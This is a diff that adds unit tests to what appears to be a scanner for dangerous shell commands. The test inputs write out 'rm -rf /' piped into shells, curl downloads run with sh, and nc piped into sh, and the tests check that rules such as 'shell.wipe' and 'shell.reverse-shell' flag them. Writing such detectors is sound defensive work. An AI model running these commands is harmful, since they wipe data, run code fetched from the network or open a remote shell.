@@ -245,6 +245,32 @@ TEST_CASE("variables cannot multiply a short line into a long one") {
   CHECK(bytes < 1U << 20U);
 }
 
+TEST_CASE("what is printed into a pipeline of shells is read once") {
+  // 16,000 words by 4,000 shells, while each read all of it.
+  const Look found =
+      look("echo " + repeated("a ", 32'000) + "; rm -rf /" + repeated(" |sh", 16'000));
+  CHECK(has(found.hits, "shell.wipe"));
+  CHECK(found.shell.pipes_to_shell);
+  CHECK(has(look("echo rm -rf / | sh | sh").hits, "shell.wipe"));
+  CHECK(has(look("echo ls | sh | echo rm -rf / | sh").hits, "shell.wipe"));
+  CHECK(has(look("curl x | echo $(ls | sh) | tee y | sh").hits, "shell.pipe-to-shell"));
+  CHECK(!has(look("curl x | tee y; ls | sh").hits, "shell.pipe-to-shell"));
+}
+
+TEST_CASE("a shell anywhere in a pipeline of sockets is one tied to them") {
+  CHECK(has(look(repeated("nc a 1 | ", 9000) + "sh").hits, "shell.reverse-shell"));
+  CHECK(!has(look("nc a 1 | tee x; sh y").hits, "shell.reverse-shell"));
+}
+
+TEST_CASE("a download is known again, however many there are") {
+  std::string text;
+  for (int file = 0; file < 100; ++file)
+    text += "curl https://x.example/y -o /tmp/f" + std::to_string(file) + "; ";
+  CHECK(has(look(text + "sh /tmp/f99").hits, "shell.pipe-to-shell"));
+  CHECK(has(look(text + "./f0 x").hits, "shell.pipe-to-shell"));
+  CHECK(!has(look(text + "sh /tmp/g").hits, "shell.pipe-to-shell"));
+}
+
 TEST_CASE("no bytes make the shell scanners run wild") {
   for (const std::string& unit : hostile_units()) {
     CAPTURE(unit);
